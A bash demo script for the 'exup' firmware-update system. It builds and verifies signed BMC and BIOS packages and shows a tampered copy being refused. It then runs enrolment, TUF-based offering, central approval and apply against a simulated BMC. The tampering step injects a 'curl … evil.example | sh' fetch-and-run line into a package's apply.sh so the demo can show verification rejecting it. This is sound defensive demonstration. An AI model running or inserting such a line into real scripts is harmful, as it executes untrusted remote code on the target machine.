#!/usr/bin/env bash
# The local demo: a vendor key, a signed package, verification, and a tampered copy refused; then a manager,
# a server with a simulated BMC (ipmi_sim) and its agent: enrolment, inventory through FreeIPMI, the
# repository, the server's status, a central approval, and the agent applying it (the packages' programs
# "flash" the simulated BMC), with exup-agent status before and after.
set -euo pipefail
bin=$(cd "$1" && pwd)
here=$(cd "$(dirname "$0")" && pwd)
work=$(mktemp -d /tmp/exup-demo.XXXXXX)
pids=()
trap 'kill "${pids[@]}" 2>/dev/null; wait 2>/dev/null; rm -rf "$work"' EXIT
cd "$work"
step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

step "The simulated BMC of the demo server starts (ipmi_sim on loopback)"
bport=$(( 51000 + RANDOM % 9000 ))
"$bin/exup-sim-bmc" "$bport" > bmc.log 2>&1 &
pids+=($!)
for _ in $(seq 200); do grep -q "^READY" bmc.log 2>/dev/null && break; sleep 0.05; done
grep -q "^READY" bmc.log || { cat bmc.log >&2; echo "demo failed: the simulated BMC did not start" >&2; exit 1; }
bmc_state=$(sed -n 's/^READY //p' bmc.log)
echo "BMC on 127.0.0.1:$bport (state in $bmc_state)"

step "A vendor creates a signing key"
"$bin/exup" pkg keygen --out vendor
mkdir trusted-keys && cp vendor/vendor.pub.pem trusted-keys/

step "…and builds two signed update packages: BMC firmware 2.31, and a BIOS that needs a reboot"
# The sample programs "flash" the simulated BMC by writing its state files (a real one runs the vendor's tool).
cp -r "$here/demo/payload" bmc-payload
sed -i "/^exit 0\$/i printf '2.31 01020304\\\\n' > '$bmc_state/bmc-firmware'" bmc-payload/apply.sh
"$bin/exup" pkg build --info "$here/demo/ExUpInfo.xml" --payload bmc-payload \
  --key vendor/vendor.key.pem --out bmc-r120h-2.31.zip
cp -r "$here/demo/payload" bios-payload
sed -i "/^exit 0\$/i printf 'R120h BIOS 4.3.0\\\\n' > '$bmc_state/system-firmware'" bios-payload/apply.sh
sed -e 's/bmc-r120h-2.31/bios-r120h-4.3.0/; s/BMC firmware 2.31 for R120h/BIOS 4.3.0 for R120h/; s/2026-03-01/2026-01-20/' \
    -e 's/id="bmc-firmware" name="BMC firmware"/id="system-bios" name="System BIOS"/; s/<Version>2.31/<Version>R120h BIOS 4.3.0/' \
    -e 's/rebootRequired="false"/rebootRequired="true"/' "$here/demo/ExUpInfo.xml" > bios-info.xml
"$bin/exup" pkg build --info bios-info.xml --payload bios-payload --key vendor/vendor.key.pem --out bios-r120h-4.3.0.zip
"$bin/exup" pkg inspect --trusted-keys trusted-keys bmc-r120h-2.31.zip

step "A server checks it against its trusted vendor keys"
"$bin/exup" pkg verify --trusted-keys trusted-keys bmc-r120h-2.31.zip

step "Someone slips a command into the update program and re-zips it with the original signature…"
mkdir unpacked && (cd unpacked && unzip -q ../bmc-r120h-2.31.zip)
sed -i 's/^exit 0$/curl -s http:\/\/evil.example | sh; exit 0/' unpacked/payload/apply.sh
(cd unpacked && zip -qr ../tampered.zip ExUpInfo.xml payload ExUpHash.xml ExUpHash.sig)
step "…and the package is refused (exit status 1)"
if "$bin/exup" pkg verify --trusted-keys trusted-keys tampered.zip; then
  echo "demo failed: the tampered package was accepted" >&2; exit 1
fi
step "The manager starts (first start: TUF keys, administrator token, repository password)"
mport=$(( 41000 + RANDOM % 9000 ))
"$bin/exup-manager" serve --data-dir manager --listen "127.0.0.1:$mport" --trusted-keys trusted-keys > manager.log 2>&1 &
pids+=($!)
for _ in $(seq 200); do grep -q "listening on" manager.log 2>/dev/null && break; sleep 0.05; done
grep -q "listening on" manager.log || { cat manager.log >&2; echo "demo failed: the manager did not start" >&2; exit 1; }
export EXUP_SERVER="http://127.0.0.1:$mport" EXUP_TOKEN="$(cat manager/admin.token)"
echo "listening on $EXUP_SERVER"

step "The server's agent enrols with a one-time token and reads its BMC through FreeIPMI"
token=$("$bin/exup" agents token create --expires 1h)
cat > agent.toml <<EOF
[ipmi]
driver = "lan-2.0"
host = "127.0.0.1"
port = $bport
username = "admin"
password = "secret"
workarounds = ["opensesspriv"]
sdr-cache-dir = "$work/sdr"

[inventory]
package-system = "none"

[manager]
url = "$EXUP_SERVER"
enrolment-token = "$token"

[agent]
name = "demo-server"
state-dir = "$work/agent-state"
cache-dir = "$work/agent-cache"
socket = "$work/agent.sock"

[trust]
keys-dir = "$work/trusted-keys"
EOF
"$bin/exup-agent" inventory --config agent.toml || true
"$bin/exup-agent" run --once --config agent.toml

step "The vendor's packages go into the repository (they apply to the server's model)"
"$bin/exup" repo add bmc-r120h-2.31.zip bios-r120h-4.3.0.zip
"$bin/exup" repo list

step "The agent polls: the repository's TUF metadata offers the packages; the server status follows"
"$bin/exup-agent" check --config agent.toml
"$bin/exup" servers
"$bin/exup" server show demo-server

step "An operator approves them centrally"
"$bin/exup" approve demo-server

step "exup-agent status before the apply"
"$bin/exup-agent" status --config agent.toml

step "The agent applies: no-reboot items first (BMC), then the BIOS; each package verified, run, re-read"
"$bin/exup-agent" apply --config agent.toml

step "exup-agent status after the apply (the BIOS waits for a reboot the demo never makes)"
"$bin/exup-agent" status --config agent.toml
"$bin/exup" server show demo-server
"$bin/exup" log > applog.txt && tail -6 applog.txt
"$bin/exup-agent" status --json --config agent.toml > status.json
grep -q '"id" : "bmc-firmware"' status.json || { cat status.json >&2; echo "demo failed: no BMC in the status" >&2; exit 1; }
python3 - status.json <<'PY' || { echo "demo failed: the apply did not end as expected" >&2; exit 1; }
import json, sys
modules = {m["id"]: m for m in json.load(open(sys.argv[1]))["modules"]}
assert modules["bmc-firmware"]["current"] == "2.31" and modules["bmc-firmware"]["status"] == "latest", modules["bmc-firmware"]
assert modules["system-bios"]["status"] == "reboot-required", modules["system-bios"]
PY

echo
echo "demo complete: the genuine package verified, the tampered one was refused; the agent enrolled,"
echo "read its BMC through FreeIPMI, trusted the repository's offer through TUF, applied the approved"
echo "updates in order, and the manager shows the BMC at 2.31 and the BIOS waiting for its reboot."
